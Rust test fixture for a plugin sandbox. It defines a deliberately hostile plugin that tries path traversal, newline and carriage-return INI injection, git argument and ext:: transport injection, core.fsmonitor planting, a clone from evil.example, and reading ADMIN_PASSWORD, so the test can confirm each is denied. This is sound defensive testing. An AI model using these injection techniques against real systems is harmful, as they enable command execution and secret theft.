//! Test fixture: a WIT 0.2.0 plugin that attacks the helpers 0.2.0 adds
//! (not shipped). In `stack post-config` it runs every attack named in
//! `HOSTILE2_ATTACKS` (space-separated) and prints, for each,
//! `hostile2 <attack>: ok` or `hostile2 <attack>: <kind> <message>`
//! (`denied`, `not-found`, `invalid`, `failed`). The test asserts each is
//! refused as it must be and that nothing happened outside the grants.
//!
//! Attacks (its grants: write `etc/granted`, git
//! `https://opendev.org/openstack/*`):
//!
//! - `ini-dotdot`: iniset through `..` out of the write grant;
//! - `ini-absolute`: iniset on `/etc/hookhost-owned.conf`;
//! - `ini-outside`: iniset on `/stack/etc/other/x.conf` (no grant);
//! - `ini-newline`: a value with a newline and a forged section;
//! - `ini-section-newline`: a section with a newline;
//! - `ini-cr`: a value with carriage returns (a line break to Python's
//!   config readers) forging a section;
//! - `ini-section-bracket`: a section with `]` in it;
//! - `ini-option-equals`: an option with `=` (a forged `key = value`);
//! - `ini-huge`: a value of 2 MiB;
//! - `ini-many`: iniset-multiline with 5000 values;
//! - `ini-dir`: iniset on the granted directory itself;
//! - `git-option`: a repository that is an option (`--upload-pack=...`);
//! - `git-ext`: an `ext::` transport (runs a command);
//! - `git-file`: a `file://` repository (reads the host's disk);
//! - `git-prefix`: a URL covered by the grant's prefix leading elsewhere (`..`);
//! - `git-ungranted`: a repository no grant covers;
//! - `git-ref-option`: a ref that is an option;
//! - `git-dest-outside`: a destination outside the write grant;
//! - `ini-fifo-read`, `ini-fifo-write`: iniget and iniset on a FIFO the
//!   test put in the grant (opening or reading it would block the host);
//! - `git-plant`: makes `proj/.git/config` in its write grant (with
//!   `core.fsmonitor`, a trusted `git status` there would run it);
//! - `ini-git-config`: iniset on `proj/.git/config`;
//! - `secret`: reads `ADMIN_PASSWORD` (not granted);
//! - `pkg-option`: is-package-installed of `-rf`;
//! - the attacks on the grant advice (`adv-*`), listed in `advice.rs`.

use hookhost_sdk::v0_2::prelude::*;

mod advice;

#[derive(Default)]
struct Hostile2;

const OUT: &str = "/stack/etc/granted";

fn attack(name: &str) -> HostResult {
    let conf = format!("{OUT}/x.conf");
    match name {
        "ini-dotdot" => iniset(&format!("{OUT}/../other/x.conf"), "DEFAULT", "owned", "yes"),
        "ini-absolute" => iniset("/etc/hookhost-owned.conf", "DEFAULT", "owned", "yes"),
        "ini-outside" => iniset("/stack/etc/other/x.conf", "DEFAULT", "owned", "yes"),
        "ini-newline" => iniset(&conf, "DEFAULT", "k", "v\n[DEFAULT]\nowned = yes"),
        "ini-section-newline" => iniset(&conf, "DEFAULT]\n[x", "owned", "yes"),
        "ini-cr" => iniset(&conf, "DEFAULT", "debug", "True\r[auth]\rinsecure = true"),
        "ini-section-bracket" => iniset(&conf, "DEFAULT] owned = yes [x", "k", "v"),
        "ini-option-equals" => iniset(&conf, "DEFAULT", "owned = yes", "x"),
        "ini-huge" => iniset(&conf, "DEFAULT", "k", "x".repeat(2 << 20)),
        "ini-many" => {
            let values: Vec<String> = (0..5000).map(|n| n.to_string()).collect();
            iniset_multiline(&conf, "DEFAULT", "k", values)
        }
        "ini-dir" => iniset(OUT, "DEFAULT", "owned", "yes"),
        "ini-fifo-read" => iniget(&format!("{OUT}/fifo.conf"), "DEFAULT", "k").map(|_| ()),
        "git-plant" => std::fs::create_dir_all(format!("{OUT}/proj/.git"))
            .and_then(|()| std::fs::write(format!("{OUT}/proj/.git/config"), "[core]\n"))
            .map_err(|e| HostError::Failed(e.to_string())),
        "ini-git-config" => iniset(&format!("{OUT}/proj/.git/config"), "core", "fsmonitor", "x"),
        "ini-fifo-write" => iniset(&format!("{OUT}/fifo.conf"), "DEFAULT", "k", "v"),
        "git-option" => git_clone(
            "--upload-pack=touch /tmp/hostile2",
            &format!("{OUT}/g"),
            None,
        ),
        "git-ext" => git_clone("ext::sh -c touch% /tmp/hostile2", &format!("{OUT}/g"), None),
        "git-file" => git_clone("file:///etc", &format!("{OUT}/g"), None),
        "git-prefix" => git_clone(
            "https://opendev.org/openstack/../../evil/x",
            &format!("{OUT}/g"),
            None,
        ),
        "git-ungranted" => git_clone("https://evil.example/x", &format!("{OUT}/g"), None),
        "git-ref-option" => git_clone(
            "https://opendev.org/openstack/nova",
            &format!("{OUT}/g"),
            Some("--upload-pack=touch /tmp/hostile2"),
        ),
        "git-dest-outside" => git_clone(
            "https://opendev.org/openstack/nova",
            "/stack/etc/other/g",
            None,
        ),
        "secret" => get_var("ADMIN_PASSWORD").map(|v| println!("hostile2 secret value: {v:?}")),
        "pkg-option" => is_package_installed("-rf").map(|_| ()),
        other => advice::attack(other)
            .unwrap_or_else(|| Err(HostError::Invalid(format!("no attack {other}")))),
    }
}

fn kind(e: &HostError) -> &'static str {
    match e {
        HostError::Denied { .. } => "denied",
        HostError::NotFound(_) => "not-found",
        HostError::Invalid(_) => "invalid",
        HostError::Failed(_) => "failed",
    }
}

impl Hook for Hostile2 {
    fn post_config(&mut self) -> Result {
        let attacks = get_var("HOSTILE2_ATTACKS")?.unwrap_or_default();
        for name in attacks.split_whitespace() {
            match attack(name) {
                Ok(()) => println!("hostile2 {name}: ok"),
                Err(e) => println!("hostile2 {name}: {} {e}", kind(&e)),
            }
        }
        Ok(())
    }
}

export_hook!(Hostile2);
